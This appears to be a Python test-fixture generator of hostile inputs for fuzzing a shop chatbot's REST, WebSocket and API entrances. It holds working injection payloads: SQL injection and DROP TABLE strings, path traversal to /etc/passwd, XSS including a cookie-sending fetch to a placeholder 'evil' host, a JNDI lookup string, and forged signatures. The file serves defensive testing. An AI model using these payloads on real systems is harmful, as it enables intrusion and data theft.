"""Hostile inputs for the assistant's entrances, generated deterministically.

`generate(n, seed)` returns the same `n` cases for the same seed, for the short
pytest run (tests/test_hostile_inputs.py) and the full benchmark
(bench/faults.py) alike. Standard library only; sending the cases is
harness.hostile_runner's job.

A case is a kind (what is hostile about it), a target (which entrance takes it)
and the payload:

- target "text": a chat message's text; goes to Rasa's REST channel as
  `message` or to the desk's buyer WebSocket as `text`.
- target "rest_body": a whole REST body, a JSON value (`json` key) or raw bytes
  (`raw` key).
- target "ws_hello": the first frame of a buyer socket, a dict; the strings
  "<now>", "<sig:ACCOUNT>", "<sig:ACCOUNT@OFFSET>", "<devsig:ACCOUNT>" and
  "<lily_conversation>" are filled in when sent (`materialize_hello`).
- target "ws_frame": a frame on an open buyer socket: {"text": str} or {"binary": bytes}.
- target "ws_oversize": a frame over the desk's 64 KiB limit: {"size": int, "binary": bool}.
- target "api": {"method", "path", "body" (bytes or None), "auth": "none" | "forged" | "session"}.
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence

ROOT = Path(__file__).resolve().parent.parent
ORDERS_FILE = ROOT / "shop" / "orders.json"
WS_MAX_SIZE = 64 * 1024


@dataclass(frozen=True)
class HostileCase:
    kind: str
    target: str
    payload: Any

    def short(self) -> str:
        text = repr(self.payload)
        return f"{self.kind}: {text[:120]}{'...' if len(text) > 120 else ''}"


def load_accounts(path: Path = ORDERS_FILE) -> Dict[str, Dict[str, List[str]]]:
    """account -> {"order_ids": [...], "tracking_nos": [...]} from the shop's orders."""
    orders = json.loads(Path(path).read_text(encoding="utf-8"))["orders"]
    accounts: Dict[str, Dict[str, List[str]]] = {}
    for order in orders:
        entry = accounts.setdefault(order["account"], {"order_ids": [], "tracking_nos": []})
        entry["order_ids"].append(str(order["order_id"]))
        if order.get("tracking_no"):
            entry["tracking_nos"].append(str(order["tracking_no"]))
    return accounts


def foreign_identifiers(accounts: Dict[str, Dict[str, List[str]]], account: Optional[str]) -> List[str]:
    """Order ids and tracking numbers a buyer signed in as `account` (None: anonymous) must never see."""
    return [ident for name, entry in accounts.items() if name != account
            for ident in entry["order_ids"] + entry["tracking_nos"]]


# -- text ---------------------------------------------------------------------------------
_RANGES = [(0x20, 0x7E), (0xA0, 0x2FF), (0x300, 0x36F), (0x590, 0x6FF), (0x900, 0x97F),
           (0x3040, 0x30FF), (0x4E00, 0x9FFF), (0xAC00, 0xD7A3), (0xE000, 0xF8FF),
           (0xFE00, 0xFE0F), (0xFF00, 0xFFEF), (0x1F300, 0x1FAFF), (0x10000, 0x1007F),
           (0x1D400, 0x1D7FF), (0x20000, 0x2A6DF), (0xE0000, 0xE007F), (0xF0000, 0xF00FF)]
_MARKS = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067",
          "\u2068", "\u2069", "\u200b", "\u200c", "\u200d", "\ufeff", "\u061c"]
_COMBINING = [chr(c) for c in range(0x300, 0x370)] + ["\u20dd", "\u20e3", "\u0489"]
_EMOJI = ["😂", "🙏", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "❤️", "🇨🇳", "🤬", "💩", "🧧", "🈶", "🔥", "1️⃣", "🫠"]
_QUESTIONS = ["包邮吗", "我的快递到哪了", "查一下订单", "这款有货吗", "我要退货", "怎么还不发货", "有发票吗"]


def _random_char(rng: random.Random) -> str:
    low, high = rng.choice(_RANGES)
    return chr(rng.randint(low, high))


def _unicode_text(rng: random.Random) -> str:
    parts = []
    for _ in range(rng.randint(1, 60)):
        roll = rng.random()
        if roll < 0.15:
            parts.append(rng.choice(_MARKS))
        elif roll < 0.3:
            parts.append(rng.choice("abc我包邮") + "".join(rng.choice(_COMBINING) for _ in range(rng.randint(1, 30))))
        else:
            parts.append(_random_char(rng))
    if rng.random() < 0.3:
        parts.insert(rng.randint(0, len(parts)), rng.choice(_QUESTIONS))
    return "".join(parts)


def _control_text(rng: random.Random) -> str:
    controls = [chr(c) for c in list(range(0, 32)) + [127] + list(range(0x80, 0xA0))]
    controls += ["\u2028", "\u2029", "\x00" * 8, "\r\n\r\n", "\x1b[31m", "\x1b]0;title\x07"]
    text = "".join(rng.choice(controls) for _ in range(rng.randint(1, 40)))
    if rng.random() < 0.5:
        cut = rng.randint(0, len(text))
        text = text[:cut] + rng.choice(_QUESTIONS) + text[cut:]
    return text


def _long_text(rng: random.Random) -> str:
    unit = rng.choice(["我想问一下这个芒果干", "a", "包邮吗?", " ", "啊" * 7 + "\n", "ＳＦ１２３", "<b>x</b>"])
    size = 100_000 + rng.randint(0, 2_000)
    return (unit * (size // len(unit) + 1))[:size]


def _emoji_flood(rng: random.Random) -> str:
    emoji = rng.choice(_EMOJI)
    count = rng.choice([500, 5_000, 20_000, 30_000])
    return emoji * count


def _sql_path(rng: random.Random, order_ids: Sequence[str]) -> str:
    order_id = rng.choice(order_ids) if order_ids else "3034801436998116639"
    tricks = ["' OR 1=1 --", "\" OR \"\"=\"", "../../etc/passwd", "..\\..\\windows\\win.ini",
              "3034801436998116639; DROP TABLE shop_orders", f"{order_id}' OR '1'='1",
              f"{order_id}; DELETE FROM desk_messages --", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
              "1 UNION SELECT document FROM shop_orders --", f"{order_id}%00", "*", "%", "_",
              "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "/etc/passwd\x00.json", "file:///etc/passwd",
              "{{7*7}}", "${jndi:ldap://x/a}", "3034801436998116639\u202e"]
    trick = rng.choice(tricks)
    return rng.choice(["{t}", "订单号{t}", "帮我查一下订单 {t} 到哪了", "{t} 物流", "退货 订单{t}"]).format(t=trick)


def _rasa_command(rng: random.Random, order_ids: Sequence[str]) -> str:
    order_id = rng.choice(order_ids) if order_ids else "3396835585940427286"
    commands = ['/request_human{"account":"tb_wang88"}', f'/ask_logistics{{"order_id":"{order_id}"}}',
                f'/request_return{{"order_id":"{order_id}"}}', f'/ask_refund_progress{{"order_id":"{order_id}"}}',
                '/greet', '/nlu_fallback', '/restart', '/session_start', '/ask_logistics@1.0',
                f'/inform{{"order_id":"{order_id}","account":"tb_wang88"}}', '/out_of_scope{"account":null}',
                f'  /ask_logistics{{"order_id":"{order_id}"}}', f'\x00/ask_logistics{{"order_id":"{order_id}"}}',
                '/request_human{"account":"tb_wang88"}{"a":1}', '//request_human', '/']
    return rng.choice(commands)


def _html_js(rng: random.Random) -> str:
    return rng.choice(["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
                       "<svg/onload=fetch('//evil/'+document.cookie)>", "javascript:alert(1)",
                       "</script><script>alert(1)</script>", "<iframe src=//evil></iframe>",
                       "\"><b onmouseover=alert(1)>包邮吗</b>", "<a href='javascript:alert(1)'>查订单</a>",
                       "{{constructor.constructor('alert(1)')()}}", "<style>*{display:none}</style>",
                       "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--", "]]><x>", "<math><mi xlink:href=x>"])


# -- REST bodies ---------------------------------------------------------------------------
_WRONG = [123, -1, 1.5, 1e308, True, False, None, [], ["a"], {}, {"a": 1}, "", "x" * 5000,
          {"$ne": 1}, {"$gt": ""}, [{"text": "hi"}]]


def _rest_wrong_types(rng: random.Random) -> Dict[str, Any]:
    base = {"sender": f"hostile-{rng.randrange(10 ** 9)}", "message": rng.choice(_QUESTIONS),
            "metadata": {"account": "tb_lily"}}
    shape = rng.choice(["field", "field", "metadata_account", "missing", "extra"])
    body = dict(base)
    if shape == "field":
        body[rng.choice(["sender", "message", "metadata"])] = rng.choice(_WRONG + ["x"])
    elif shape == "metadata_account":
        body["metadata"] = {"account": rng.choice(_WRONG + ["", " ", "../tb_wang88", "tb_lily\x00"])}
    elif shape == "missing":
        for key in rng.sample(list(base), rng.randint(1, 3)):
            body.pop(key)
    else:
        body[rng.choice(["input_channel", "stream", "__proto__", "sender_id"])] = rng.choice(_WRONG)
    return {"json": body}


def _rest_malformed(rng: random.Random) -> Dict[str, Any]:
    raw = rng.choice([b"", b"{", b"{not json", b"[1,2", b"null", b"[]", b'"x"', b"1", b"true",
                      b'{"sender": "a", "message": "hi"', b'{"sender": "a",, "message": "hi"}',
                      b"\xff\xfe{\x00}", b'{"sender": "a", "message": "\xff"}', b"{'sender': 'a'}",
                      b'{"message": "hi"}' * 3, b"\x00" * 64, b'{"message": NaN}', b'{"a": Infinity}',
                      b"[" * 5000 + b"]" * 5000, b'{"message": "' + b"A" * 100_000 + b'"}',
                      b'{"sender": "a", "message": "\\ud800"}', b'{"sender": "a", "message": "\\udfff\\ud800x"}',
                      b'{"sender": "a", "message": "hi", "metadata": {"account": "\\ud800"}}'])
    return {"raw": raw}


# -- buyer socket --------------------------------------------------------------------------
def _forged_hello(rng: random.Random) -> Dict[str, Any]:
    return rng.choice([
        {"account": "tb_lily", "ts": "<now>", "sig": "0" * 64},
        {"account": "tb_lily", "ts": "<now>", "sig": "".join(rng.choice("0123456789abcdef") for _ in range(64))},
        {"account": "tb_wang88", "ts": "<now>", "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": "<now>", "sig": "<devsig:tb_lily>"},
        {"account": "tb_lily", "ts": "<now+400000>", "sig": "<sig:tb_lily@400000>"},
        {"account": "tb_lily", "ts": "<now-400000>", "sig": "<sig:tb_lily@-400000>"},
        {"account": "tb_lily", "ts": "abc", "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": None, "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": [1], "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": {"$gt": 0}, "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": float("inf"), "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": float("nan"), "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": 1e300, "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": "9" * 5000, "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": "<now>", "sig": "<SIG:tb_lily>"},
        {"account": "tb_lily", "ts": "<now>"},
        {"account": "tb_lily", "ts": "<now>", "sig": None},
        {"account": "tb_lily", "ts": "<now>", "sig": ["<sig:tb_lily>"]},
        {"account": ["tb_lily"], "ts": "<now>", "sig": "<sig:tb_lily>"},
        {"account": {"$ne": None}, "ts": "<now>", "sig": "0" * 64},
        {"account": "", "ts": "<now>", "sig": "<sig:>"},
        {"account": "tb_lily" * 3000, "ts": "<now>", "sig": "f" * 30000},
        {"account": "tb_wang88|<now>", "ts": "<now>", "sig": "<sig:tb_wang88>"},
        {"account": "tb_lily\x00", "ts": "<now>", "sig": "<sig:tb_lily>"},
        {"account": "tb_lily ", "ts": "<now>", "sig": "<sig:tb_lily>"},
        {"account": "tb_lily", "ts": "<now>", "sig": "<sig:tb_lily>", "conversation_id": "<lily_conversation>",
         "_expect_account": "tb_lily"},  # the control: valid, resumes lily's chat
        {"conversation_id": "<lily_conversation>"},  # anonymous may not resume lily's chat
        {"account": "tb_wang88", "ts": "<now>", "sig": "<sig:tb_lily>", "conversation_id": "<lily_conversation>"},
        {"conversation_id": 123, "after": "x"},
        {"conversation_id": ["<lily_conversation>"], "after": -5},
        {"conversation_id": {"$ne": ""}, "after": 10 ** 30},
        {"conversation_id": "../../etc/passwd", "after": 1.5},
        {"conversation_id": "' OR 1=1 --", "after": True},
        {"conversation_id": "\ud800", "account": "\udfff", "ts": "<now>", "sig": "\ud800"},
    ])


def _malformed_frame(rng: random.Random) -> Dict[str, Any]:
    text = rng.choice(_QUESTIONS)
    frames = [
        {"text": "not json"}, {"text": ""}, {"text": "{"}, {"text": "[1, 2, 3]"}, {"text": "null"},
        {"text": "42"}, {"text": '"message"'}, {"text": json.dumps([{"type": "message", "text": text}])},
        {"text": json.dumps({"type": "message"})}, {"text": json.dumps({"text": text})},
        {"text": json.dumps({"type": ["message"], "text": text})},
        {"text": json.dumps({"type": "message", "client_id": 123, "text": text})},
        {"text": json.dumps({"type": "message", "client_id": ["a"], "text": text})},
        {"text": json.dumps({"type": "message", "client_id": "c" * 5000, "text": text})},
        {"text": json.dumps({"type": "message", "text": 123})},
        {"text": json.dumps({"type": "message", "text": None})},
        {"text": json.dumps({"type": "message", "text": ["a", "b"]})},
        {"text": json.dumps({"type": "message", "text": {"$ne": 1}})},
        {"text": json.dumps({"type": "message", "text": text, "conversation_id": "<lily_conversation>"})},
        {"text": json.dumps({"type": "message", "text": text, "conversation_id": 5, "after": "x"})},
        {"text": json.dumps({"type": "message", "text": text, "after": 10 ** 30})},
        {"text": json.dumps({"type": "hello", "account": "tb_wang88", "ts": 1, "sig": "x"})},
        {"text": json.dumps({"type": "message", "text": "x" * 60_000})},
        {"text": '{"type": "message", "text": "\\ud800\\udfff\\ud800", "client_id": "\\udc00"}'},
        {"text": '{"type": "message", "text": NaN, "client_id": Infinity}'},
        {"text": "[" * 3000 + "]" * 3000},
        {"text": '{"type": "message", "text": "' + "\\u0000" * 2000 + '"}'},
        {"binary": b"\x00\x01\x02\xff"}, {"binary": b""},
        {"binary": json.dumps({"type": "message", "text": text}).encode()},
        {"binary": b'{"type": "message", "text": "\xff\xfe"}'},
    ]
    return rng.choice(frames)


def _oversize(rng: random.Random) -> Dict[str, Any]:
    return {"size": WS_MAX_SIZE + rng.choice([1, 1024, 200_000, 2_000_000]), "binary": rng.random() < 0.3}


# -- agent / trainer APIs --------------------------------------------------------------------
_PATH_PARAMS = ["..%2F..%2Fetc%2Fpasswd", "..", "%2e%2e", "../../../../etc/passwd", "%00", "a%00b",
                "' OR 1=1 --", "1;DROP TABLE desk_messages", "%ED%A0%80", "%FF%FE", "a" * 3000, "%25",
                "<script>", "null", "-1", "0", "9" * 40, "%E2%80%AE", "..%5C..%5Cwin.ini", "~root"]
_API_ROUTES = [
    ("GET", "/api/me"), ("GET", "/api/queue"), ("GET", "/api/rules"), ("GET", "/api/quick-replies?q={p}"),
    ("GET", "/api/conversations/{p}"), ("POST", "/api/conversations/{p}/claim"),
    ("POST", "/api/conversations/{p}/messages"), ("POST", "/api/conversations/{p}/hand-back"),
    ("POST", "/api/conversations/{p}/close"), ("POST", "/api/login"), ("GET", "/api/trainer/inbox"),
    ("GET", "/api/trainer/intents"), ("POST", "/api/trainer/flags"), ("GET", "/api/trainer/jobs/{p}"),
    ("GET", "/api/trainer/jobs/{p}/confusion.png"), ("GET", "/static/{p}"), ("GET", "/static/..%2F..%2F..%2Fshop%2Forders.json"),
    ("GET", "/static/../../../shop/orders.json"), ("GET", "/?account={p}"),
]
# Never with a session: they change the project (labels, models) or end the session.
NO_SESSION_ROUTES = [("POST", "/api/trainer/label"), ("POST", "/api/trainer/retrain"),
                     ("POST", "/api/trainer/rollback"), ("POST", "/api/logout")]


def _api_body(rng: random.Random) -> Optional[bytes]:
    choice = rng.randrange(9)
    if choice == 0:
        return None
    if choice == 1:
        return rng.choice([b"{bad", b"[]", b"null", b'"x"', b"\xff\xfe", b"1" * 1000])
    if choice == 2:
        return b'{"text": "' + b"x" * rng.choice([100_000, 300_000]) + b'"}'  # 300 KB > REQUEST_MAX_SIZE
    fields = ["text", "username", "password", "confirm", "intent", "conversation_id", "note", "override"]
    body = {}
    for key in rng.sample(fields, rng.randint(1, 4)):
        body[key] = rng.choice(_WRONG + ["亲,包邮哦", "\ud800", "../../etc/passwd", "' OR 1=1 --", "<script>"])
    return json.dumps(body).encode()


def _api_case(rng: random.Random) -> Dict[str, Any]:
    if rng.random() < 0.1:
        method, path = rng.choice(NO_SESSION_ROUTES)
        auth = rng.choice(["none", "forged"])
    else:
        method, path = rng.choice(_API_ROUTES)
        auth = rng.choice(["none", "forged", "session", "session"])
    return {"method": method, "path": path.replace("{p}", rng.choice(_PATH_PARAMS)),
            "body": _api_body(rng) if method == "POST" else None, "auth": auth}


# -- the mix ----------------------------------------------------------------------------------
KINDS = {
    # kind: (target, weight)
    "unicode_random": ("text", 10), "control_chars": ("text", 6), "long_text": ("text", 2),
    "emoji_flood": ("text", 2), "sql_path_order": ("text", 6), "rasa_command": ("text", 6),
    "html_js": ("text", 4), "rest_wrong_types": ("rest_body", 8), "rest_malformed_json": ("rest_body", 4),
    "ws_forged_hello": ("ws_hello", 4), "ws_malformed_frame": ("ws_frame", 9),
    "ws_oversized_frame": ("ws_oversize", 1), "api_hostile": ("api", 22),
}


def _payload(kind: str, rng: random.Random, order_ids: Sequence[str]) -> Any:
    return {
        "unicode_random": lambda: _unicode_text(rng), "control_chars": lambda: _control_text(rng),
        "long_text": lambda: _long_text(rng), "emoji_flood": lambda: _emoji_flood(rng),
        "sql_path_order": lambda: _sql_path(rng, order_ids), "rasa_command": lambda: _rasa_command(rng, order_ids),
        "html_js": lambda: _html_js(rng), "rest_wrong_types": lambda: _rest_wrong_types(rng),
        "rest_malformed_json": lambda: _rest_malformed(rng), "ws_forged_hello": lambda: _forged_hello(rng),
        "ws_malformed_frame": lambda: _malformed_frame(rng), "ws_oversized_frame": lambda: _oversize(rng),
        "api_hostile": lambda: _api_case(rng),
    }[kind]()


def generate(n: int, seed: int = 0, weights: Optional[Dict[str, float]] = None,
             foreign_order_ids: Optional[Sequence[str]] = None) -> List[HostileCase]:
    """`n` hostile cases; every kind at least once when n allows. Same (n, seed): same cases."""
    rng = random.Random(seed)
    if foreign_order_ids is None:
        accounts = load_accounts() if ORDERS_FILE.exists() else {}
        foreign_order_ids = [i for name, e in sorted(accounts.items()) if name != "tb_lily" for i in e["order_ids"]]
    weights = weights or {kind: w for kind, (_, w) in KINDS.items()}
    kinds = [k for k in KINDS if weights.get(k, 0) > 0]
    chosen = kinds[:n] + rng.choices(kinds, weights=[weights[k] for k in kinds], k=max(0, n - len(kinds)))
    rng.shuffle(chosen)
    return [HostileCase(kind, KINDS[kind][0], _payload(kind, rng, foreign_order_ids)) for kind in chosen]


def materialize_hello(template: Dict[str, Any], secret: str, now: int,
                      lily_conversation: str = "") -> Dict[str, Any]:
    """A hello template with its placeholders filled in (signatures made with `secret`)."""
    from shopbot.config import DEV_SECRET
    from shopbot.desk.signing import sign

    def fill(value: Any) -> Any:
        if isinstance(value, list):
            return [fill(v) for v in value]
        if not isinstance(value, str):
            return value
        if value == "<lily_conversation>":
            return lily_conversation
        if value.startswith("<now") and value.endswith(">"):
            return now + int(value[4:-1] or 0)
        for prefix, key, upper in (("<sig:", secret, False), ("<devsig:", DEV_SECRET, False), ("<SIG:", secret, True)):
            if value.startswith(prefix) and value.endswith(">"):
                account, _, offset = value[len(prefix):-1].partition("@")
                signature = sign(account, now + int(offset or 0), key)
                return signature.upper() if upper else signature
        return value.replace("<now>", str(now))

    hello = {"type": "hello"}
    hello.update({k: fill(v) for k, v in template.items() if not k.startswith("_")})
    return hello
